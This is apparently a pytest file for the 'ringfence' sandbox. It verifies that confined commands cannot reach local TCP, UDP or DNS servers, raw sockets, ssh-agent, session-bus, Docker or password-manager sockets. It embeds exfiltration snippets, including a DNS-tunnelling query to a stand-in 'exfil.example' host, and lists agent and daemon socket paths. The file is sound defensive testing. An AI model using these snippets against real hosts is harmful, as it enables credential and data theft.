"""Attack: reach the network or a host daemon with network off (the default).

Every server here is one the test starts: TCP and UDP on 127.0.0.1 (never any other address),
unix sockets in the test's own directories, an abstract unix socket with a unique name. Each
server records what reached it, so "the connection failed" is checked from both ends. The
controls repeat the attack with ``--network on`` (inet) or ``--profile full-access`` (unix
sockets), where it must get through.

Not blocked, a documented limitation (a test shows it): filesystem unix sockets that no
environment variable names, and that are not under /run, /tmp or a deny-read path, stay
reachable with network off.
"""

from __future__ import annotations

import errno
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator

import pytest
from tests.conftest import World

PY = os.path.realpath(sys.executable)
LOCALHOST = "127.0.0.1"


def py(world: World, code: str, *options: str, env: dict[str, str] | None = None
       ) -> subprocess.CompletedProcess[str]:
    return world.run("run", *options, "--", PY, "-c", code, env=env)


class Server:
    """A stream or datagram server in a thread; ``seen`` holds what reached it."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.seen: list[bytes] = []
        self._stop = False
        self.sock.settimeout(0.05)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        stream = self.sock.type == socket.SOCK_STREAM
        while not self._stop:
            try:
                if stream:
                    conn, _ = self.sock.accept()
                    with conn:
                        conn.settimeout(2)
                        conn.sendall(b"HELLO\n")
                        try:
                            self.seen.append(b"CONNECT " + conn.recv(1024))
                        except OSError:
                            self.seen.append(b"CONNECT")
                else:
                    data, peer = self.sock.recvfrom(4096)
                    self.seen.append(data)
                    self.sock.sendto(data[:2] + b"\x81\x80" + data[4:], peer)  # "answer"
            except (TimeoutError, BlockingIOError):
                continue
            except OSError:
                return

    def wait_seen(self, within: float = 2.0) -> list[bytes]:
        deadline = time.monotonic() + within
        while not self.seen and time.monotonic() < deadline:
            time.sleep(0.02)
        return self.seen

    def close(self) -> None:
        self._stop = True
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def servers() -> Iterator[list[Server]]:
    made: list[Server] = []
    yield made
    for server in made:
        server.close()


def tcp_server(servers: list[Server]) -> tuple[Server, int]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((LOCALHOST, 0))
    sock.listen(8)
    server = Server(sock)
    servers.append(server)
    return server, sock.getsockname()[1]


def udp_server(servers: list[Server]) -> tuple[Server, int]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((LOCALHOST, 0))
    server = Server(sock)
    servers.append(server)
    return server, sock.getsockname()[1]


def unix_server(servers: list[Server], address: str | bytes) -> Server:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(address)
    sock.listen(8)
    server = Server(sock)
    servers.append(server)
    return server


TCP_CODE = """
import socket, sys
try:
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3)
    s.sendall(b"exfiltrated")
    print("CONNECTED", s.recv(100).decode().strip())
except OSError as exc:
    print("FAILED", exc.errno)
"""


def test_tcp_to_localhost_server(world: World, servers: list[Server]) -> None:
    """The command connects to a TCP server on the host's 127.0.0.1 (a database, a dev
    server, a cloud metadata proxy) to send data out: no connection reaches it."""
    server, port = tcp_server(servers)
    result = world.run("run", "--", PY, "-c", TCP_CODE, str(port))
    assert result.stdout.startswith("FAILED"), result.stdout + result.stderr
    time.sleep(0.2)
    assert server.seen == []
    control = world.run("run", "--network", "on", "--", PY, "-c", TCP_CODE, str(port))
    assert control.stdout.strip() == "CONNECTED HELLO", control.stdout + control.stderr
    assert server.wait_seen() == [b"CONNECT exfiltrated"]


UDP_CODE = """
import socket, sys
payload = bytes.fromhex(sys.argv[2])
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(payload, ("127.0.0.1", int(sys.argv[1])))
    print("SENT", s.recv(512)[:2].hex())
except OSError as exc:
    print("FAILED", exc.errno)
"""


def test_udp_to_localhost_server(world: World, servers: list[Server]) -> None:
    """The command sends a UDP datagram to a server on the host's 127.0.0.1: nothing
    arrives."""
    server, port = udp_server(servers)
    payload = b"exfiltrated".hex()
    result = world.run("run", "--", PY, "-c", UDP_CODE, str(port), payload)
    assert result.stdout.startswith("FAILED"), result.stdout + result.stderr
    time.sleep(0.2)
    assert server.seen == []
    control = world.run("run", "--network", "on", "--", PY, "-c", UDP_CODE, str(port),
                        payload)
    assert control.stdout.startswith("SENT"), control.stdout + control.stderr
    assert server.wait_seen() == [b"exfiltrated"]


def _dns_query(name: str) -> bytes:
    header = bytes.fromhex("abcd01000001000000000000")  # id, RD, one question
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + labels + b"\x00\x01\x00\x01"  # A, IN


def test_dns_query_to_localhost_resolver(world: World, servers: list[Server]) -> None:
    """The command tunnels data out through DNS (the secret as a name in the query) to a
    resolver on 127.0.0.1 (the test's own UDP server stands in for it): the query never
    arrives. (getaddrinfo("localhost") may still answer from /etc/hosts: no network needed.)"""
    server, port = udp_server(servers)
    query = _dns_query("c2VjcmV0.exfil.example").hex()
    result = world.run("run", "--", PY, "-c", UDP_CODE, str(port), query)
    assert result.stdout.startswith("FAILED"), result.stdout + result.stderr
    time.sleep(0.2)
    assert server.seen == []
    control = world.run("run", "--network", "on", "--", PY, "-c", UDP_CODE, str(port), query)
    assert control.stdout.strip() == "SENT abcd", control.stdout + control.stderr
    assert server.wait_seen() == [bytes.fromhex(query)]


RAW_CODE = """
import json, socket
out = {}
for name, args in (("icmp_raw", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                   ("icmp_dgram", (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
                   ("icmp6_dgram", (socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)),
                   ("packet", (socket.AF_PACKET, socket.SOCK_RAW, 0)),
                   ("netlink_route", (socket.AF_NETLINK, socket.SOCK_RAW, 0))):
    try:
        socket.socket(*args).close()
        out[name] = "ok"
    except OSError as exc:
        out[name] = exc.errno
print(json.dumps(out))
"""


def test_raw_icmp_packet_and_netlink_sockets(world: World) -> None:
    """The command opens ICMP sockets (ping tunnels), raw packet sockets or netlink (the
    kernel's network configuration): none can be created."""
    import json

    result = py(world, RAW_CODE)
    assert result.returncode == 0, result.stderr
    inside = json.loads(result.stdout)
    assert "ok" not in inside.values(), inside
    # Control: whatever this host lets the test process open, the unguarded run opens too.
    host = json.loads(subprocess.run([PY, "-c", RAW_CODE], capture_output=True, text=True,
                                     check=True).stdout)
    control = json.loads(py(world, RAW_CODE, "--profile", "full-access").stdout)
    assert control == host
    assert control["netlink_route"] == "ok"  # netlink needs no privilege at all


CONNECT_UNIX = """
import os, socket, sys
path = sys.argv[1]
print("ENV", os.environ.get(sys.argv[2], "<unset>"))
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(path.encode().replace(b"@", b"\\0", 1) if path.startswith("@") else path)
    s.sendall(b"stolen")
    print("CONNECTED", s.recv(100).decode().strip())
except OSError as exc:
    print("FAILED", exc.errno)
"""


def test_ssh_agent_socket(world: World, servers: list[Server]) -> None:
    """The command uses the user's ssh-agent (SSH_AUTH_SOCK) to sign in to servers as them:
    the variable is removed and the socket itself is masked, so guessing the path fails."""
    sock_path = world.outside / f"agent.{uuid.uuid4().hex[:8]}"
    server = unix_server(servers, str(sock_path))
    (world.outside / "neighbour.txt").write_text("visible\n")
    env = {"SSH_AUTH_SOCK": str(sock_path)}
    result = world.run("run", "--", PY, "-c", CONNECT_UNIX, str(sock_path), "SSH_AUTH_SOCK",
                       env=env)
    assert "ENV <unset>" in result.stdout, result.stdout + result.stderr
    assert "FAILED" in result.stdout, result.stdout + result.stderr
    time.sleep(0.2)
    assert server.seen == []
    # the directory itself is there: only the socket was masked
    neighbour = world.sandbox(f"cat '{world.outside}/neighbour.txt'", env=env)
    assert neighbour.stdout == "visible\n", neighbour.stderr
    control = world.run("run", "--profile", "full-access", "--", PY, "-c", CONNECT_UNIX,
                        str(sock_path), "SSH_AUTH_SOCK", env=env)
    assert "CONNECTED HELLO" in control.stdout, control.stdout + control.stderr
    assert server.wait_seen() == [b"CONNECT stolen"]


def test_socket_under_xdg_runtime_dir(world: World, servers: list[Server]) -> None:
    """The command talks to the session bus (``$XDG_RUNTIME_DIR/bus``: systemd-run, secret
    service) or another daemon in the runtime directory: the directory is masked."""
    runtime = world.outside / "run-user"
    runtime.mkdir(mode=0o700)
    bus = runtime / "bus"
    server = unix_server(servers, str(bus))
    env = {"XDG_RUNTIME_DIR": str(runtime)}
    result = world.run("run", "--", PY, "-c", CONNECT_UNIX, str(bus), "XDG_RUNTIME_DIR",
                       env=env)
    assert "ENV <unset>" in result.stdout, result.stdout + result.stderr
    assert "FAILED" in result.stdout, result.stdout + result.stderr
    listing = world.sandbox(f"ls -A '{runtime}'", env=env)
    assert "bus" not in listing.stdout
    time.sleep(0.2)
    assert server.seen == []
    control = world.run("run", "--profile", "full-access", "--", PY, "-c", CONNECT_UNIX,
                        str(bus), "XDG_RUNTIME_DIR", env=env)
    assert "CONNECTED HELLO" in control.stdout, control.stdout + control.stderr
    assert server.wait_seen() == [b"CONNECT stolen"]


@pytest.mark.parametrize("where", [".1password/agent.sock", ".bitwarden-ssh-agent.sock",
                                   ".colima/default/docker.sock", ".rd/docker.sock"])
def test_known_daemon_sockets_in_home(world: World, servers: list[Server], where: str) -> None:
    """The command signs in as the user through a password manager's SSH agent, or drives a
    Docker VM (root in the VM, the user's files mounted in it), through a socket in the home
    directory that no variable names. A socket on a read-only mount still accepts connections,
    so these are hidden (deny-read) by default."""
    sock_path = world.home / where
    sock_path.parent.mkdir(parents=True, exist_ok=True)
    server = unix_server(servers, str(sock_path))
    result = world.run("run", "--", PY, "-c", CONNECT_UNIX, str(sock_path), "NONE")
    assert "FAILED" in result.stdout, result.stdout + result.stderr
    time.sleep(0.2)
    assert server.seen == []
    control = world.run("run", "--profile", "full-access", "--", PY, "-c", CONNECT_UNIX,
                        str(sock_path), "NONE")
    assert "CONNECTED HELLO" in control.stdout, control.stdout + control.stderr
    assert server.wait_seen() == [b"CONNECT stolen"]


def test_other_sockets_in_home_are_reachable_a_documented_limit(
        world: World, servers: list[Server]) -> None:
    """Documents the limit the README states: a unix socket in a place ringfence does not
    hide is reachable with the network off (no kernel mechanism filters connect() by path;
    unix sockets stay allowed for the command's own use). If this starts failing, the limit
    is gone: update the README."""
    sock_path = world.home / "some-daemon.sock"
    server = unix_server(servers, str(sock_path))
    result = world.run("run", "--", PY, "-c", CONNECT_UNIX, str(sock_path), "NONE")
    assert "CONNECTED HELLO" in result.stdout, result.stdout + result.stderr
    assert server.wait_seen() == [b"CONNECT stolen"]


@pytest.mark.parametrize("network", ["off", "on"])
def test_no_unix_sockets_reaches_no_host_socket(world: World, servers: list[Server],
                                                network: str) -> None:
    """``--no-unix-sockets``: the socket ringfence cannot hide (anywhere the command can see
    and the user can write) is out of reach too, whatever the network mode; socketpair()
    still works. The control is the same run without the option."""
    sock_path = world.home / "some-daemon.sock"
    server = unix_server(servers, str(sock_path))
    code = CONNECT_UNIX + (
        "a, b = socket.socketpair(); a.sendall(b'pair'); print('SOCKETPAIR', b.recv(4).decode())\n")
    result = world.run("run", "--network", network, "--no-unix-sockets", "--", PY, "-c", code,
                       str(sock_path), "NONE")
    assert f"FAILED {errno.EPERM}" in result.stdout, result.stdout + result.stderr
    assert "SOCKETPAIR pair" in result.stdout, result.stdout + result.stderr
    time.sleep(0.2)
    assert server.seen == []
    control = world.run("run", "--network", network, "--", PY, "-c", code, str(sock_path),
                        "NONE")
    assert "CONNECTED HELLO" in control.stdout, control.stdout + control.stderr
    assert server.wait_seen() == [b"CONNECT stolen"]


def test_abstract_unix_socket(world: World, servers: list[Server]) -> None:
    """The command connects to an abstract unix socket (no file to mask: X11's
    ``@/tmp/.X11-unix/X0``, some agents and dbus): abstract names belong to the network
    namespace, so the host's are out of reach."""
    name = f"@ringfence-test-{uuid.uuid4().hex}"
    server = unix_server(servers, b"\0" + name[1:].encode())
    result = world.run("run", "--", PY, "-c", CONNECT_UNIX, name, "NONE")
    assert result.stdout.split()[-2:] == ["FAILED", str(errno.ECONNREFUSED)], (
        result.stdout + result.stderr)
    time.sleep(0.2)
    assert server.seen == []
    control = world.run("run", "--profile", "full-access", "--", PY, "-c", CONNECT_UNIX, name,
                        "NONE")
    assert "CONNECTED HELLO" in control.stdout, control.stdout + control.stderr
    assert server.wait_seen() == [b"CONNECT stolen"]
